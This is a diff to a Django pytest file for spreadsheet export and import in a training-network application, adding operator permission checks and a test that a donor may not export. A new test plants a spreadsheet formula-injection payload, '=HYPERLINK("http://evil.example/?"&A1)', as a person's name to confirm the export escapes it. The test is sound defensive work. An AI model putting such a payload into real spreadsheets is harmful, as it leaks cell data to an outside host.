@@ -1,10 +1,14 @@
 import datetime
 
 import openpyxl
+import pytest
+from django.core.exceptions import PermissionDenied
 
+from cascade.access import operator
 from cascade.access.pseudonyms import pseudonym
 from cascade.curriculum.models import Edition, Manual, ManualSession
 from cascade.network.models import Membership, Organization, Person
+from cascade.spreadsheets import exporter
 from cascade.spreadsheets.schema import SHEETS
 from cascade.spreadsheets.services import export_workbook, import_workbook, write_template
 from cascade.trainings.models import Participation, Training, TrainingSession
@@ -107,18 +111,18 @@ def test_export_then_import_into_an_empty_database_reproduces_the_network(
     build_network(create_organization, create_person, create_manual, create_training)
     before = snapshot()
     path = tmp_path / "network.xlsx"
-    export_workbook(path)
+    export_workbook(path, operator())
     for model in (Participation, TrainingSession, Training, Edition, ManualSession, Manual, Membership, Person,
                   Organization):
         model.objects.all().delete()
 
-    result = import_workbook(path)
+    result = import_workbook(path, operator())
 
     assert result.ok, [str(e) for e in result.errors]
     assert snapshot() == before
     assert before["sessions"] and before["memberships"] and before["manual_sessions"]
 
-    again = import_workbook(path)
+    again = import_workbook(path, operator())
 
     assert again.ok and snapshot() == before
     assert all(counts["created"] == 0 for counts in again.counts.values())
@@ -129,7 +133,7 @@ def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
 ):
     build_network(create_organization, create_person, create_manual, create_training)
     path = tmp_path / "network.xlsx"
-    export_workbook(path)
+    export_workbook(path, operator())
 
     sheet = openpyxl.load_workbook(path)["organizations"]
     risky = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "'=cmd")
@@ -144,7 +148,7 @@ def test_export_writes_extra_title_columns_for_other_languages(
 ):
     build_network(create_organization, create_person, create_manual, create_training)
     path = tmp_path / "network.xlsx"
-    export_workbook(path)
+    export_workbook(path, operator())
 
     rows = list(openpyxl.load_workbook(path)["trainings"].values)
     header = rows[0]
@@ -171,13 +175,13 @@ def test_the_empty_template_imports_without_changing_anything(tmp_path, db):
     path = tmp_path / "template.xlsx"
     write_template(path)
 
-    result = import_workbook(path)
+    result = import_workbook(path, operator())
 
     assert result.ok and not result.warnings
     assert all(counts == {"created": 0, "updated": 0} for counts in result.counts.values())
 
 
-def test_an_export_for_a_donor_holds_no_names(tmp_path, create_organization, create_person, create_manual,
+def test_a_donor_may_not_export_and_the_scoping_underneath_holds_no_names(tmp_path, create_organization, create_person, create_manual,
                                              create_training, django_user_model):
     from cascade.accounts.models import Role
 
@@ -185,7 +189,11 @@ def test_an_export_for_a_donor_holds_no_names(tmp_path, create_organization, cre
     donor = django_user_model.objects.create_user("dora", password="a-long-pass-phrase")
     Role.objects.create(user=donor, kind=Role.Kind.DONOR)
 
-    counts = export_workbook(tmp_path / "donor.xlsx", user=donor)
+    with pytest.raises(PermissionDenied):
+        export_workbook(tmp_path / "refused.xlsx", donor)
+    assert not (tmp_path / "refused.xlsx").exists()
+
+    counts = exporter.export_workbook(tmp_path / "donor.xlsx", user=donor)  # the scoping underneath, too
 
     assert (counts["people"], counts["participants"], counts["memberships"]) == (0, 0, 0)
     agenda = list(openpyxl.load_workbook(tmp_path / "donor.xlsx")["sessions"].values)
@@ -199,7 +207,7 @@ def test_a_pseudonymised_export_names_nobody_in_roles_and_agendas(
     build_network(create_organization, create_person, create_manual, create_training)
     path = tmp_path / "evaluators.xlsx"
 
-    export_workbook(path, pseudonymise=True)
+    export_workbook(path, operator(), pseudonymise=True)
 
     book = openpyxl.load_workbook(path)
     cells = {str(cell) for sheet in book.worksheets for row in sheet.values for cell in row if cell is not None}
@@ -211,3 +219,22 @@ def test_a_pseudonymised_export_names_nobody_in_roles_and_agendas(
     rows = list(book["sessions"].values)
     agenda = [dict(zip(rows[0], row)) for row in rows[1:]]
     assert {row["facilitators"] for row in agenda} == {";".join(sorted([aigul, nino])), None, aigul}
+
+
+def test_no_cell_of_the_export_is_a_formula_whatever_people_typed(
+    tmp_path, create_organization, create_person, create_manual, create_training,
+):
+    import zipfile
+
+    build_network(create_organization, create_person, create_manual, create_training)
+    create_person(key="p-risky", full_name='=HYPERLINK("http://evil.example/?"&A1)', city="-1+1", phone="\t=1")
+    path = tmp_path / "network.xlsx"
+    export_workbook(path, operator())
+
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) > 5 and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    book = openpyxl.load_workbook(path)
+    risky = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and "evil.example" in cell.value]
+    assert [(cell.value, cell.data_type) for cell in risky] == [("'=HYPERLINK(\"http://evil.example/?\"&A1)", "s")]
